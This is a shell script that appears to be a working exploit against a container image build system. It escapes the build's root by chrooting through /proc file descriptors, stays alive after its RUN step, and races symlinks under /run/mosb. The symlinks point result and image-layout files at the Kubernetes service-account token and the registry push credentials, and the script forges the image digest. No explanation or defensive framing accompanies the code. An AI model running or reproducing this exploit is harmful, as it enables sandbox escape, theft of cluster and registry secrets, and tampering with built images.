# Outlives its RUN line, waits until the build has left its image, and changes that for as long as the container lives.
set -u
if [ "$1" != out ]; then
    mkdir -p /usr/share/found
    exec 3</
    up='cd -P /self/fd/3; for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do cd -P ..; done
        exec /self/fd/3/usr/bin/busybox chroot . /bin/sh -s "$@"'
    exec /usr/bin/busybox chroot /proc /self/fd/3/usr/bin/busybox sh -c "$up" sh out "$@" </usr/share/script
fi
forged=$2
mosb=/run/mosb
push=/run/mosb/final-image-push-creds/config.json
token=/var/run/secrets/kubernetes.io/serviceaccount/token
swap() {
    until [ -s "$mosb/image/digest" ]; do :; done
    while :; do
        ln -sfn "$token" "$mosb/failure/result.json"
        ln -sfn "$push" "$mosb/image/layout/index.json"
        ln -sfn "$push" "$mosb/image/layout/blobs/sha256/${forged#*:}"
        echo "$forged" >"$mosb/image/digest"
    done
}
ls "$mosb" >"/proc/$$/fd/3/usr/share/found/swap"
swap >/dev/null 2>&1 </dev/null 3</dev/null &
